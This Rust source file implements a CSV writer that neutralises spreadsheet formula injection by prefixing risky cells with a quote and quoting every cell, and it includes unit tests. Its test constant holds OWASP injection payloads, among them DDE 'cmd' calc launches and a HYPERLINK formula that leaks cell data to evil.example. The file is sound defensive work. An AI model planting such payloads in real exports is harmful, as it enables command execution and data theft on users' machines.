//! CSV that spreadsheets open as data, never as formulas (CSV or formula injection). A cell
//! starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
//! LibreOffice and Google Sheets, so an organisation named `=HYPERLINK(...)` in an imported
//! transfer log would run on an auditor's machine. Following OWASP's CSV injection guidance, such
//! a cell gets a leading `'` (which spreadsheets read as "this is text"), and every cell is
//! quoted, with quotes doubled, so a spreadsheet splitting on `;` cannot cut a cell into a
//! formula either. Every CSV ipxfer writes goes through [`SafeWriter`].

use std::borrow::Cow;
use std::io::{self, Read, Write};
use std::sync::{Arc, Mutex, MutexGuard};

use serde::Serialize;

/// Leading characters that make a cell a formula: OWASP's `=`, `+`, `-`, `@`, tab and carriage
/// return, plus line feed and NUL (ASVS 1.2.10) and the full-width forms of the first four,
/// which some spreadsheet locales read as the ASCII ones.
const FORMULA_STARTS: [char; 12] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// The payloads of OWASP's CSV injection page, one per leading character it lists, and its two
/// worked examples (what the tests write and check).
pub const OWASP_PAYLOADS: [&str; 9] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2,\"Error: please click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+2+5+cmd|' /C calc'!E2",
    "-2+3+cmd|' /C calc'!E2",
    "\t=1+2",
    "\r=1+2",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
];

/// Whether a spreadsheet would read this cell as a formula.
pub fn starts_formula(cell: &str) -> bool {
    cell.starts_with(FORMULA_STARTS)
}

/// The cell as text a spreadsheet shows as it is: a leading `'` when it would start a formula.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    if starts_formula(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV writer that quotes every cell.
fn writer<W: Write>(out: W) -> csv::Writer<W> {
    csv::WriterBuilder::new()
        .has_headers(false)
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(out)
}

/// Bytes a writer has written and not yet handed on, shared with whoever hands them on: a
/// `csv::Writer` owns its output and lends no `&mut` to it while it lives, so an export that
/// drains its sink between rows stages the CSV here.
#[derive(Debug, Clone, Default)]
pub struct Staging(Arc<Mutex<Vec<u8>>>);

impl Staging {
    /// The bytes written so far (clear them once handed on).
    pub fn staged(&self) -> MutexGuard<'_, Vec<u8>> {
        // A panic while writing leaves plain bytes behind, never a broken invariant.
        self.0
            .lock()
            .unwrap_or_else(|poisoned| poisoned.into_inner())
    }
}

impl Write for Staging {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.staged().extend_from_slice(buf);
        Ok(buf.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Reading takes the bytes from the front, so a reader and a writer can share one buffer.
impl Read for Staging {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let mut bytes = self.staged();
        let n = buf.len().min(bytes.len());
        buf[..n].copy_from_slice(&bytes[..n]);
        bytes.drain(..n);
        Ok(n)
    }
}

/// Writes rows whose cells are each made [`spreadsheet_safe`]. A row is a record of plain
/// strings and numbers (a struct or a slice), as `csv::Writer::serialize` takes it; serialising
/// it first and re-reading its cells means no field of any row type can skip the check. The
/// serialiser and the reader live as long as this writer, sharing one buffer: building a
/// `csv::Reader` (its parser's tables) for each row was most of a CSV export's time.
pub struct SafeWriter<W: Write> {
    out: csv::Writer<W>,
    plain: csv::Writer<Staging>,
    cells_of: csv::Reader<Staging>,
    cells: csv::StringRecord,
}

impl<W: Write> SafeWriter<W> {
    pub fn new(out: W) -> Self {
        let plain = Staging::default();
        SafeWriter {
            out: writer(out),
            plain: csv::WriterBuilder::new()
                .has_headers(false)
                .from_writer(plain.clone()),
            cells_of: csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(plain),
            cells: csv::StringRecord::new(),
        }
    }

    /// Writes one row, each cell checked.
    pub fn write_row<T: Serialize>(&mut self, row: &T) -> csv::Result<()> {
        self.plain.serialize(row)?;
        self.plain.flush()?;
        // The serialiser ended the record, so the reader stops at its end and never asks the
        // empty buffer for more (which it would take for the end of the input).
        if !self.cells_of.read_record(&mut self.cells)? {
            return Err(io::Error::other("a serialised row read back as no record").into());
        }
        for cell in self.cells.iter() {
            self.out.write_field(spreadsheet_safe(cell).as_bytes())?;
        }
        self.out.write_record(None::<&[u8]>)?;
        Ok(())
    }

    /// Moves what the CSV writer buffered into the underlying writer.
    pub fn flush(&mut self) -> io::Result<()> {
        self.out.flush()
    }

    pub fn into_inner(self) -> io::Result<W> {
        self.out.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(cells: &[&str]) -> String {
        let mut w = SafeWriter::new(Vec::new());
        w.write_row(&cells).unwrap();
        String::from_utf8(w.into_inner().unwrap()).unwrap()
    }

    #[test]
    fn owasp_payloads_become_text() {
        for p in OWASP_PAYLOADS {
            assert!(starts_formula(p), "{p:?}");
            let safe = spreadsheet_safe(p);
            assert_eq!(safe, format!("'{p}"));
            assert!(!starts_formula(&safe));
        }
        // OWASP's two worked examples, escaped as it shows them.
        assert_eq!(written(&["=1+2\";=1+2"]), "\"'=1+2\"\";=1+2\"\n");
        assert_eq!(written(&["=1+2'\" ;,=1+2"]), "\"'=1+2'\"\" ;,=1+2\"\n");
    }

    #[test]
    fn one_writer_keeps_every_row_of_a_long_export_whole() {
        // Rows of awkward cells through one writer (its reader and serialiser are reused):
        // each reads back as itself, made safe, in order.
        let rows: Vec<Vec<String>> = (0..2_000)
            .map(|i| {
                vec![
                    i.to_string(),
                    String::new(),
                    format!("line {i}\nand \"quoted\", comma"),
                    OWASP_PAYLOADS[i % OWASP_PAYLOADS.len()].to_owned(),
                    "\r\n".repeat(i % 3),
                ]
            })
            .collect();
        let mut w = SafeWriter::new(Vec::new());
        for r in &rows {
            w.write_row(r).unwrap();
        }
        let bytes = w.into_inner().unwrap();
        let back: Vec<Vec<String>> = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect();
        let expected: Vec<Vec<String>> = rows
            .iter()
            .map(|r| r.iter().map(|c| spreadsheet_safe(c).into_owned()).collect())
            .collect();
        assert_eq!(back, expected);
    }

    #[test]
    fn ordinary_cells_are_quoted_and_unchanged() {
        for c in [
            "Example Networks",
            "198.51.100.0/24",
            "2026-01-01",
            "",
            "'t Hooft",
            "1-2",
        ] {
            assert!(!starts_formula(c), "{c:?}");
            assert_eq!(spreadsheet_safe(c), c);
        }
        assert_eq!(written(&["a", "b,c", ""]), "\"a\",\"b,c\",\"\"\n");
        for c in ["\u{FF1D}1+2", "\0x", "\n=1"] {
            assert!(starts_formula(c), "{c:?}");
        }
    }
}
